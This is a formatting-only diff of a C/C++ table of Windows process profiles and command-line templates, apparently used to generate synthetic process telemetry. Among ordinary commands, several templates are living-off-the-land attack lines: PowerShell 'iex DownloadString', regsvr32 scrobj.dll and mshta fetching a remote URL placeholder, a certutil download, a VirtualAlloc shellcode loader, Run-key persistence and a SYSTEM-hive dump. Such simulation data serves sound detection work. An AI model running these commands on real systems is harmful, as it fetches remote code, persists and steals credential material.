       "powershell.exe -NoLogo -NonInteractive -WindowStyle Hidden -EncodedCommand {B}",
-      "\"" PS_EXE "\" -ExecutionPolicy Restricted -Command \"Get-WmiObject -Class Win32_LogicalDisk | "
-      "Where-Object { $_.DriveType -eq 3 } | Select-Object DeviceID,FreeSpace,Size | ConvertTo-Json -Compress\"",
+      "\"" PS_EXE
+      "\" -ExecutionPolicy Restricted -Command \"Get-WmiObject -Class Win32_LogicalDisk | "
+      "Where-Object { $_.DriveType -eq 3 } | Select-Object DeviceID,FreeSpace,Size | "
+      "ConvertTo-Json -Compress\"",
       "powershell.exe -nop -c \"[Net.ServicePointManager]::SecurityProtocol='Tls12'; "
       "iex ((New-Object Net.WebClient).DownloadString('{R}'))\"",
       "\"" PS_EXE "\"",
-      PS_EXE " -NoProfile -NonInteractive -Command \"& {Import-Module Microsoft.PowerShell.Management; "
-      "Get-Service | Where-Object Status -eq 'Running' | Out-File -FilePath C:\\Windows\\Temp\\{F}.txt}\""}},
-    {"pwsh.exe", "C:\\Program Files\\PowerShell\\7\\pwsh.exe", SG_MSCORP, 1, UK_USER, PR_PWSH,
+      PS_EXE
+      " -NoProfile -NonInteractive -Command \"& {Import-Module Microsoft.PowerShell.Management; "
+      "Get-Service | Where-Object Status -eq 'Running' | Out-File -FilePath "
+      "C:\\Windows\\Temp\\{F}.txt}\""}},
+    {"pwsh.exe",
+     "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
+     SG_MSCORP,
+     1,
+     UK_USER,
+     PR_PWSH,
      "explorer.exe,Code.exe,WindowsTerminal.exe",
      {"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoExit -Command \"Set-Location -LiteralPath "
       "'C:\\Users\\{U}\\source\\repos\\{P}'\"",
-      "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoProfile -File C:\\Users\\{U}\\scripts\\{T}.ps1 -Verbose",
+      "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoProfile -File "
+      "C:\\Users\\{U}\\scripts\\{T}.ps1 -Verbose",
       "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\""}},
     {"WindowsTerminal.exe",
      "C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.19.11213.0_x64__8wekyb3d8bbwe\\"
      "WindowsTerminal.exe",
-     SG_MSCORP, 1, UK_USER, PR_GUI, "explorer.exe",
-     {"\"C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.19.11213.0_x64__8wekyb3d8bbwe\\"
+     SG_MSCORP,
+     1,
+     UK_USER,
+     PR_GUI,
+     "explorer.exe",
+     {"\"C:\\Program "
+      "Files\\WindowsApps\\Microsoft.WindowsTerminal_1.19.11213.0_x64__8wekyb3d8bbwe\\"
       "WindowsTerminal.exe\" "}},
-    {"rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", SG_MSWIN, 2, UK_ANY, PR_RUNDLL,
+    {"rundll32.exe",
+     "C:\\Windows\\System32\\rundll32.exe",
+     SG_MSWIN,
+     2,
+     UK_ANY,
+     PR_RUNDLL,
      "explorer.exe,svchost.exe,cmd.exe,WINWORD.EXE",
-     {"C:\\Windows\\system32\\rundll32.exe shell32.dll,Control_RunDLL \"C:\\Windows\\System32\\desk.cpl\",,0",
+     {"C:\\Windows\\system32\\rundll32.exe shell32.dll,Control_RunDLL "
+      "\"C:\\Windows\\System32\\desk.cpl\",,0",
       "rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {G} -Embedding",
-      "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.dll,DllRegisterServer",
+      "\"C:\\Windows\\system32\\rundll32.exe\" "
+      "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.dll,DllRegisterServer",
       "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\PcaSvc.dll,PcaPatchSdbTask",
-      "rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 "
+      "rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 "
+      "WinY:0 "
       "IEFrame:0000000000000000",
       "rundll32.exe C:\\ProgramData\\{V}\\{T}.dll,Start"}},
-    {"regsvr32.exe", "C:\\Windows\\System32\\regsvr32.exe", SG_MSWIN, 1, UK_USER, PR_REGSVR,
+    {"regsvr32.exe",
+     "C:\\Windows\\System32\\regsvr32.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_REGSVR,
      "explorer.exe,cmd.exe,msiexec.exe",
      {"regsvr32.exe /s /n /u /i:{R} scrobj.dll",
       "\"C:\\Windows\\System32\\regsvr32.exe\" /s \"C:\\Program Files\\Common Files\\microsoft "
       "shared\\ink\\tipband.dll\"",
       "C:\\Windows\\system32\\regsvr32.exe /s C:\\ProgramData\\{V}\\{T}.ocx"}},
-    {"WmiPrvSE.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", SG_MSWIN, 2, UK_SVCMIX, PR_WMI, "svchost.exe",
+    {"WmiPrvSE.exe",
+     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
+     SG_MSWIN,
+     2,
+     UK_SVCMIX,
+     PR_WMI,
+     "svchost.exe",
      {"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
       "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"}},
-    {"dllhost.exe", "C:\\Windows\\System32\\dllhost.exe", SG_MSWIN, 2, UK_USER, PR_DLLHOST, "svchost.exe",
+    {"dllhost.exe",
+     "C:\\Windows\\System32\\dllhost.exe",
+     SG_MSWIN,
+     2,
+     UK_USER,
+     PR_DLLHOST,
+     "svchost.exe",
      {"C:\\Windows\\system32\\DllHost.exe /Processid:{G}"}},
-    {"WINWORD.EXE", OFFICE "WINWORD.EXE", SG_MSCORP, 2, UK_USER, PR_WORD, "explorer.exe,OUTLOOK.EXE",
+    {"WINWORD.EXE",
+     OFFICE "WINWORD.EXE",
+     SG_MSCORP,
+     2,
+     UK_USER,
+     PR_WORD,
+     "explorer.exe,OUTLOOK.EXE",
      {"\"" OFFICE "WINWORD.EXE\" /n \"C:\\Users\\{U}\\Documents\\{D}.docx\" /o \"\"",
       "\"" OFFICE "WINWORD.EXE\" /n \"C:\\Users\\{U}\\Downloads\\{D}.docm\"",
       "\"" OFFICE "WINWORD.EXE\" /Automation -Embedding"}},
-    {"EXCEL.EXE", OFFICE "EXCEL.EXE", SG_MSCORP, 2, UK_USER, PR_EXCEL, "explorer.exe,OUTLOOK.EXE",
+    {"EXCEL.EXE",
+     OFFICE "EXCEL.EXE",
+     SG_MSCORP,
+     2,
+     UK_USER,
+     PR_EXCEL,
+     "explorer.exe,OUTLOOK.EXE",
      {"\"" OFFICE "EXCEL.EXE\" \"C:\\Users\\{U}\\OneDrive - Contoso\\Finance\\{D}.xlsx\"",
       "\"" OFFICE "EXCEL.EXE\" /dde"}},
-    {"OUTLOOK.EXE", OFFICE "OUTLOOK.EXE", SG_MSCORP, 2, UK_USER, PR_GUI, "explorer.exe",
+    {"OUTLOOK.EXE",
+     OFFICE "OUTLOOK.EXE",
+     SG_MSCORP,
+     2,
+     UK_USER,
+     PR_GUI,
+     "explorer.exe",
      {"\"" OFFICE "OUTLOOK.EXE\" ", "\"" OFFICE "OUTLOOK.EXE\" /recycle"}},
-    {"POWERPNT.EXE", OFFICE "POWERPNT.EXE", SG_MSCORP, 1, UK_USER, PR_GUI, "explorer.exe,OUTLOOK.EXE",
+    {"POWERPNT.EXE",
+     OFFICE "POWERPNT.EXE",
+     SG_MSCORP,
+     1,
+     UK_USER,
+     PR_GUI,
+     "explorer.exe,OUTLOOK.EXE",
      {"\"" OFFICE "POWERPNT.EXE\" \"C:\\Users\\{U}\\Documents\\{D}.pptx\""}},
-    {"msedge.exe", EDGE_EXE, SG_MSCORP, 4, UK_USER, PR_V8, "explorer.exe,msedge.exe",
-     {"\"" EDGE_EXE "\" --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 "
+    {"msedge.exe",
+     EDGE_EXE,
+     SG_MSCORP,
+     4,
+     UK_USER,
+     PR_V8,
+     "explorer.exe,msedge.exe",
+     {"\"" EDGE_EXE
+      "\" --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 "
       "--num-raster-threads=4 --renderer-client-id={n} --mojo-platform-channel-handle={N} "
       "--field-trial-handle=1992,i,{C},{C},262144 /prefetch:1",
-      "\"" EDGE_EXE "\" --type=crashpad-handler /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "
+      "\"" EDGE_EXE
+      "\" --type=crashpad-handler /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "
       "--database=C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Crashpad",
-      "\"" EDGE_EXE "\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US "
-      "--service-sandbox-type=none --mojo-platform-channel-handle={N} --field-trial-handle=1992,i,{C},{C},262144 "
+      "\"" EDGE_EXE
+      "\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US "
+      "--service-sandbox-type=none --mojo-platform-channel-handle={N} "
+      "--field-trial-handle=1992,i,{C},{C},262144 "
       "/prefetch:3",
       "\"" EDGE_EXE "\" --type=gpu-process --mojo-platform-channel-handle={N} "
       "--field-trial-handle=1992,i,{C},{C},262144 /prefetch:2",
       "\"" EDGE_EXE "\" --profile-directory=Default"}},
-    {"chrome.exe", CHROME_EXE, SG_GOOGLE, 2, UK_USER, PR_V8, "explorer.exe,chrome.exe",
+    {"chrome.exe",
+     CHROME_EXE,
+     SG_GOOGLE,
+     2,
+     UK_USER,
+     PR_V8,
+     "explorer.exe,chrome.exe",
      {"\"" CHROME_EXE "\" --type=renderer --extension-process --lang=en-US --num-raster-threads=4 "
-      "--renderer-client-id={n} --mojo-platform-channel-handle={N} --field-trial-handle=1888,i,{C},{C},262144 "
+      "--renderer-client-id={n} --mojo-platform-channel-handle={N} "
+      "--field-trial-handle=1888,i,{C},{C},262144 "
       "/prefetch:1",
-      "\"" CHROME_EXE "\" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US "
+      "\"" CHROME_EXE
+      "\" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US "
       "--service-sandbox-type=service --mojo-platform-channel-handle={N} /prefetch:8",
       "\"" CHROME_EXE "\" "}},
-    {"firefox.exe", "C:\\Program Files\\Mozilla Firefox\\firefox.exe", SG_MOZILLA, 2, UK_USER, PR_V8,
+    {"firefox.exe",
+     "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
+     SG_MOZILLA,
+     2,
+     UK_USER,
+     PR_V8,
      "explorer.exe,firefox.exe",
-     {"\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc --channel=\"{N}.{n}.{N}\" -childID {n} "
-      "-isForBrowser -prefsHandle {N} -prefMapHandle {N} -prefsLen {N} -prefMapSize 244343 -jsInitHandle {N} "
-      "-jsInitLen 234236 -parentBuildID 20240513191732 -greomni \"C:\\Program Files\\Mozilla Firefox\\omni.ja\" "
-      "-appomni \"C:\\Program Files\\Mozilla Firefox\\browser\\omni.ja\" -appDir \"C:\\Program Files\\Mozilla "
+     {"\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc --channel=\"{N}.{n}.{N}\" "
+      "-childID {n} "
+      "-isForBrowser -prefsHandle {N} -prefMapHandle {N} -prefsLen {N} -prefMapSize 244343 "
+      "-jsInitHandle {N} "
+      "-jsInitLen 234236 -parentBuildID 20240513191732 -greomni \"C:\\Program Files\\Mozilla "
+      "Firefox\\omni.ja\" "
+      "-appomni \"C:\\Program Files\\Mozilla Firefox\\browser\\omni.ja\" -appDir \"C:\\Program "
+      "Files\\Mozilla "
       "Firefox\\browser\" - {N} tab",
       "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" "}},
-    {"notepad.exe", "C:\\Windows\\System32\\notepad.exe", SG_MSWIN, 1, UK_USER, PR_GUI, "explorer.exe,cmd.exe",
+    {"notepad.exe",
+     "C:\\Windows\\System32\\notepad.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_GUI,
+     "explorer.exe,cmd.exe",
      {"\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{U}\\Desktop\\{T}.txt", "notepad.exe"}},
-    {"python.exe", PY_EXE, SG_PSF, 2, UK_USER, PR_PYTHON, "cmd.exe,powershell.exe,Code.exe,pwsh.exe",
+    {"python.exe",
+     PY_EXE,
+     SG_PSF,
+     2,
+     UK_USER,
+     PR_PYTHON,
+     "cmd.exe,powershell.exe,Code.exe,pwsh.exe",
      {"\"" PY_EXE "\" C:\\Users\\{U}\\source\\repos\\{P}\\{Y}.py --config config.yaml",
       "python.exe -m pip install --upgrade -r requirements.txt",
       "\"" PY_EXE "\" -c \"import ctypes,base64;b=base64.b64decode(open('{F}.bin').read());"
       "m=ctypes.windll.kernel32.VirtualAlloc(0,len(b),0x3000,0x40)\"",
       "python.exe -m http.server 8000",
       "\"" PY_EXE "\" -u C:\\ProgramData\\{V}\\agent\\{Y}.py --interval 300"}},
-    {"pythonw.exe", "C:\\Program Files\\Python311\\pythonw.exe", SG_PSF, 1, UK_USER, PR_PYTHON,
+    {"pythonw.exe",
+     "C:\\Program Files\\Python311\\pythonw.exe",
+     SG_PSF,
+     1,
+     UK_USER,
+     PR_PYTHON,
      "explorer.exe,svchost.exe",
-     {"\"C:\\Program Files\\Python311\\pythonw.exe\" C:\\Users\\{U}\\AppData\\Roaming\\{T}\\{Y}.pyw"}},
-    {"java.exe", JDK "java.exe", SG_ORACLE, 2, UK_ANY, PR_JAVA, "services.exe,cmd.exe,explorer.exe",
-     {"\"" JDK "java.exe\" -Xms512m -Xmx2048m -Dfile.encoding=UTF-8 -Djava.io.tmpdir=C:\\Windows\\Temp -cp "
-      "\"C:\\ProgramData\\{V}\\lib\\*\" com.{p}.agent.Main --config C:\\ProgramData\\{V}\\conf\\agent.properties",
+     {"\"C:\\Program Files\\Python311\\pythonw.exe\" "
+      "C:\\Users\\{U}\\AppData\\Roaming\\{T}\\{Y}.pyw"}},
+    {"java.exe",
+     JDK "java.exe",
+     SG_ORACLE,
+     2,
+     UK_ANY,
+     PR_JAVA,
+     "services.exe,cmd.exe,explorer.exe",
+     {"\"" JDK
+      "java.exe\" -Xms512m -Xmx2048m -Dfile.encoding=UTF-8 -Djava.io.tmpdir=C:\\Windows\\Temp -cp "
+      "\"C:\\ProgramData\\{V}\\lib\\*\" com.{p}.agent.Main --config "
+      "C:\\ProgramData\\{V}\\conf\\agent.properties",
       "java.exe -jar C:\\Users\\{U}\\Downloads\\{T}.jar",
-      "\"" JDK "java.exe\" -Dlog4j2.formatMsgNoLookups=true -jar C:\\Program Files\\{V}\\server\\{T}-server.jar"}},
-    {"javaw.exe", JDK "javaw.exe", SG_ORACLE, 1, UK_USER, PR_JAVA, "explorer.exe",
+      "\"" JDK "java.exe\" -Dlog4j2.formatMsgNoLookups=true -jar C:\\Program "
+               "Files\\{V}\\server\\{T}-server.jar"}},
+    {"javaw.exe",
+     JDK "javaw.exe",
+     SG_ORACLE,
+     1,
+     UK_USER,
+     PR_JAVA,
+     "explorer.exe",
      {"\"" JDK "javaw.exe\" -Xmx1g -jar \"C:\\Program Files\\{V}\\{T}.jar\""}},
-    {"node.exe", "C:\\Program Files\\nodejs\\node.exe", SG_OPENJS, 2, UK_USER, PR_V8, "cmd.exe,Code.exe,pwsh.exe",
-     {"\"C:\\Program Files\\nodejs\\node.exe\" C:\\Users\\{U}\\source\\repos\\{P}\\node_modules\\vite\\bin\\vite.js "
+    {"node.exe",
+     "C:\\Program Files\\nodejs\\node.exe",
+     SG_OPENJS,
+     2,
+     UK_USER,
+     PR_V8,
+     "cmd.exe,Code.exe,pwsh.exe",
+     {"\"C:\\Program Files\\nodejs\\node.exe\" "
+      "C:\\Users\\{U}\\source\\repos\\{P}\\node_modules\\vite\\bin\\vite.js "
       "--port 5173",
       "node.exe C:\\Users\\{U}\\AppData\\Roaming\\npm\\node_modules\\npm\\bin\\npm-cli.js install",
       "\"C:\\Program Files\\nodejs\\node.exe\" C:\\ProgramData\\{V}\\service\\index.js"}},
-    {"Code.exe", "C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", SG_MSCORP, 2, UK_USER,
-     PR_V8, "explorer.exe,Code.exe",
+    {"Code.exe",
+     "C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
+     SG_MSCORP,
+     2,
+     UK_USER,
+     PR_V8,
+     "explorer.exe,Code.exe",
      {"\"C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility "
       "--utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none "
       "--mojo-platform-channel-handle={N} --field-trial-handle=1948,i,{C},{C},262144 /prefetch:8",
       "\"C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" "}},
-    {"git.exe", "C:\\Program Files\\Git\\cmd\\git.exe", SG_NONE, 1, UK_USER, PR_NATIVE, "Code.exe,cmd.exe,pwsh.exe",
-     {"git.exe fetch --all --prune", "\"C:\\Program Files\\Git\\cmd\\git.exe\" -c core.quotepath=false status "
-                                     "--porcelain=v2 --branch --untracked-files=all"}},
-    {"MSBuild.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", SG_MSCORP, 1, UK_USER,
-     PR_DOTNET, "cmd.exe,devenv.exe,powershell.exe",
-     {"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe /nologo /nodemode:1 /nodeReuse:true "
+    {"git.exe",
+     "C:\\Program Files\\Git\\cmd\\git.exe",
+     SG_NONE,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "Code.exe,cmd.exe,pwsh.exe",
+     {"git.exe fetch --all --prune",
+      "\"C:\\Program Files\\Git\\cmd\\git.exe\" -c core.quotepath=false status "
+      "--porcelain=v2 --branch --untracked-files=all"}},
+    {"MSBuild.exe",
+     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
+     SG_MSCORP,
+     1,
+     UK_USER,
+     PR_DOTNET,
+     "cmd.exe,devenv.exe,powershell.exe",
+     {"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe /nologo /nodemode:1 "
+      "/nodeReuse:true "
       "/low:false",
-      "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.csproj"}},
-    {"InstallUtil.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", SG_MSCORP, 1,
-     UK_ANY, PR_DOTNET, "msiexec.exe,cmd.exe",
-     {"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U "
+      "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe "
+      "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.csproj"}},
+    {"InstallUtil.exe",
+     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
+     SG_MSCORP,
+     1,
+     UK_ANY,
+     PR_DOTNET,
+     "msiexec.exe,cmd.exe",
+     {"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= "
+      "/LogToConsole=false /U "
       "C:\\ProgramData\\{V}\\{T}.dll"}},
-    {"RegAsm.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe", SG_MSCORP, 1, UK_ANY,
-     PR_DOTNET, "msiexec.exe,cmd.exe",
+    {"RegAsm.exe",
+     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
+     SG_MSCORP,
+     1,
+     UK_ANY,
+     PR_DOTNET,
+     "msiexec.exe,cmd.exe",
      {"\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe\" /codebase \"C:\\Program "
       "Files\\{V}\\{T}.Interop.dll\""}},
-    {"w3wp.exe", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", SG_MSWIN, 1, UK_NSVC, PR_DOTNET, "svchost.exe",
-     {"c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l \"webengine4.dll\" -a "
-      "\\\\.\\pipe\\iisipm{g} -h \"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\" -w \"\" "
+    {"w3wp.exe",
+     "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
+     SG_MSWIN,
+     1,
+     UK_NSVC,
+     PR_DOTNET,
+     "svchost.exe",
+     {"c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l "
+      "\"webengine4.dll\" -a "
+      "\\\\.\\pipe\\iisipm{g} -h "
+      "\"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\" -w \"\" "
       "-m 0 -t 20 -ta 0"}},
-    {"dotnet.exe", "C:\\Program Files\\dotnet\\dotnet.exe", SG_MSCORP, 1, UK_ANY, PR_DNCORE,
+    {"dotnet.exe",
+     "C:\\Program Files\\dotnet\\dotnet.exe",
+     SG_MSCORP,
+     1,
+     UK_ANY,
+     PR_DNCORE,
      "cmd.exe,pwsh.exe,Code.exe,services.exe",
-     {"\"C:\\Program Files\\dotnet\\dotnet.exe\" build C:\\Users\\{U}\\source\\repos\\{P}\\{P}.sln -c Release",
-      "\"C:\\Program Files\\dotnet\\dotnet.exe\" exec \"C:\\Program Files\\{V}\\{T}\\{V}.{T}.dll\" --service"}},
-    {"MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe", SG_MSWIN,
-     2, UK_SYSTEM, PR_NATIVE, "services.exe",
+     {"\"C:\\Program Files\\dotnet\\dotnet.exe\" build C:\\Users\\{U}\\source\\repos\\{P}\\{P}.sln "
+      "-c Release",
+      "\"C:\\Program Files\\dotnet\\dotnet.exe\" exec \"C:\\Program Files\\{V}\\{T}\\{V}.{T}.dll\" "
+      "--service"}},
+    {"MsMpEng.exe",
+     "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
+     SG_MSWIN,
+     2,
+     UK_SYSTEM,
+     PR_NATIVE,
+     "services.exe",
      {"\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24030.9-0\\MsMpEng.exe\""}},
-    {"SearchIndexer.exe", "C:\\Windows\\System32\\SearchIndexer.exe", SG_MSWIN, 1, UK_SYSTEM, PR_NATIVE,
-     "services.exe", {"C:\\Windows\\system32\\SearchIndexer.exe /Embedding"}},
-    {"WerFault.exe", "C:\\Windows\\System32\\WerFault.exe", SG_MSWIN, 1, UK_USER, PR_NATIVE, "svchost.exe",
+    {"SearchIndexer.exe",
+     "C:\\Windows\\System32\\SearchIndexer.exe",
+     SG_MSWIN,
+     1,
+     UK_SYSTEM,
+     PR_NATIVE,
+     "services.exe",
+     {"C:\\Windows\\system32\\SearchIndexer.exe /Embedding"}},
+    {"WerFault.exe",
+     "C:\\Windows\\System32\\WerFault.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "svchost.exe",
      {"C:\\Windows\\system32\\WerFault.exe -u -p {N} -s {N}"}},
-    {"msiexec.exe", "C:\\Windows\\System32\\msiexec.exe", SG_MSWIN, 1, UK_ANY, PR_NATIVE, "services.exe,explorer.exe",
+    {"msiexec.exe",
+     "C:\\Windows\\System32\\msiexec.exe",
+     SG_MSWIN,
+     1,
+     UK_ANY,
+     PR_NATIVE,
+     "services.exe,explorer.exe",
      {"C:\\Windows\\system32\\msiexec.exe /V",
-      "\"C:\\Windows\\System32\\msiexec.exe\" /i \"C:\\Users\\{U}\\Downloads\\{T}.msi\" /qn /norestart /L*v "
+      "\"C:\\Windows\\System32\\msiexec.exe\" /i \"C:\\Users\\{U}\\Downloads\\{T}.msi\" /qn "
+      "/norestart /L*v "
       "C:\\Windows\\Temp\\{F}.log"}},
-    {"schtasks.exe", "C:\\Windows\\System32\\schtasks.exe", SG_MSWIN, 1, UK_ANY, PR_NATIVE, "cmd.exe,powershell.exe",
-     {"schtasks.exe /Create /SC DAILY /TN \"{V}\\{T}\" /TR \"C:\\ProgramData\\{V}\\{T}.exe --update\" /ST 09:00 /F",
+    {"schtasks.exe",
+     "C:\\Windows\\System32\\schtasks.exe",
+     SG_MSWIN,
+     1,
+     UK_ANY,
+     PR_NATIVE,
+     "cmd.exe,powershell.exe",
+     {"schtasks.exe /Create /SC DAILY /TN \"{V}\\{T}\" /TR \"C:\\ProgramData\\{V}\\{T}.exe "
+      "--update\" /ST 09:00 /F",
       "schtasks /query /fo LIST /v"}},
-    {"sc.exe", "C:\\Windows\\System32\\sc.exe", SG_MSWIN, 1, UK_ANY, PR_NATIVE, "cmd.exe,powershell.exe",
+    {"sc.exe",
+     "C:\\Windows\\System32\\sc.exe",
+     SG_MSWIN,
+     1,
+     UK_ANY,
+     PR_NATIVE,
+     "cmd.exe,powershell.exe",
      {"sc.exe query {S}", "sc.exe config {S} start= auto",
       "sc.exe create {S} binPath= \"C:\\ProgramData\\{V}\\{T}.exe\" start= auto"}},
-    {"reg.exe", "C:\\Windows\\System32\\reg.exe", SG_MSWIN, 1, UK_ANY, PR_NATIVE, "cmd.exe,powershell.exe",
+    {"reg.exe",
+     "C:\\Windows\\System32\\reg.exe",
+     SG_MSWIN,
+     1,
+     UK_ANY,
+     PR_NATIVE,
+     "cmd.exe,powershell.exe",
      {"reg.exe query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
       "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {T} /t REG_SZ /d "
       "\"C:\\Users\\{U}\\AppData\\Roaming\\{T}.exe\" /f",
       "reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\{F}.hiv /y"}},
-    {"net.exe", "C:\\Windows\\System32\\net.exe", SG_MSWIN, 1, UK_USER, PR_NATIVE, "cmd.exe,powershell.exe",
-     {"net.exe user", "net group \"Domain Admins\" /domain", "net.exe use", "net localgroup administrators"}},
-    {"whoami.exe", "C:\\Windows\\System32\\whoami.exe", SG_MSWIN, 1, UK_USER, PR_NATIVE, "cmd.exe,powershell.exe",
+    {"net.exe",
+     "C:\\Windows\\System32\\net.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "cmd.exe,powershell.exe",
+     {"net.exe user", "net group \"Domain Admins\" /domain", "net.exe use",
+      "net localgroup administrators"}},
+    {"whoami.exe",
+     "C:\\Windows\\System32\\whoami.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "cmd.exe,powershell.exe",
      {"whoami.exe /all", "whoami"}},
-    {"tasklist.exe", "C:\\Windows\\System32\\tasklist.exe", SG_MSWIN, 1, UK_USER, PR_NATIVE, "cmd.exe",
+    {"tasklist.exe",
+     "C:\\Windows\\System32\\tasklist.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "cmd.exe",
      {"tasklist /v /fo csv", "tasklist /svc"}},
-    {"certutil.exe", "C:\\Windows\\System32\\certutil.exe", SG_MSWIN, 1, UK_USER, PR_NATIVE, "cmd.exe,powershell.exe",
+    {"certutil.exe",
+     "C:\\Windows\\System32\\certutil.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "cmd.exe,powershell.exe",
      {"certutil.exe -urlcache -split -f {R} C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.tmp",
       "certutil -verify -urlfetch C:\\Windows\\Temp\\{F}.cer"}},
-    {"WMIC.exe", "C:\\Windows\\System32\\wbem\\WMIC.exe", SG_MSWIN, 1, UK_USER, PR_NATIVE, "cmd.exe,powershell.exe",
+    {"WMIC.exe",
+     "C:\\Windows\\System32\\wbem\\WMIC.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "cmd.exe,powershell.exe",
      {"wmic.exe process call create \"cmd.exe /c C:\\ProgramData\\{V}\\{T}.bat\"",
       "wmic os get caption,version /format:list", "wmic /node:{I} process list brief"}},
-    {"mshta.exe", "C:\\Windows\\System32\\mshta.exe", SG_MSWIN, 1, UK_USER, PR_MSHTA, "explorer.exe,WINWORD.EXE",
+    {"mshta.exe",
+     "C:\\Windows\\System32\\mshta.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_MSHTA,
+     "explorer.exe,WINWORD.EXE",
      {"\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Users\\{U}\\Downloads\\{T}.hta\" "
       "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}",
       "mshta.exe {R}"}},
-    {"wscript.exe", "C:\\Windows\\System32\\wscript.exe", SG_MSWIN, 1, UK_USER, PR_WSCRIPT,
+    {"wscript.exe",
+     "C:\\Windows\\System32\\wscript.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_WSCRIPT,
      "explorer.exe,userinit.exe,OUTLOOK.EXE",
      {"\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{U}\\AppData\\Local\\Temp\\{T}.vbs\"",
